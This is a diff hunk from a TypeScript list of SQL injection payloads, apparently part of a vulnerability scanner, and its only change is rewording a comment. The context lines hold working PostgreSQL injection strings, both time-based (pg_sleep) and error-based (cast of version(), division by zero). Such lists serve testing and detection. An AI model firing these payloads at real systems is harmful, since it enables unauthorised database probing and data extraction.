@@ -50,7 +50,7 @@ export const sqlPayloads: readonly string[] = [
   `1; select pg_sleep(3) -- ${MARK}`,
   `(select 1 from pg_sleep(3)) -- ${MARK}`,
   `${MARK}' and 1=(select 1 from pg_sleep(3))--`,
-  // Errors that tell something.
+  // Errors that reveal something.
   `${MARK}' and 1=cast(version() as int)--`,
   `${MARK}'||cast((select 1/0) as text)||'`,
   `1/(select 0) -- ${MARK}`,
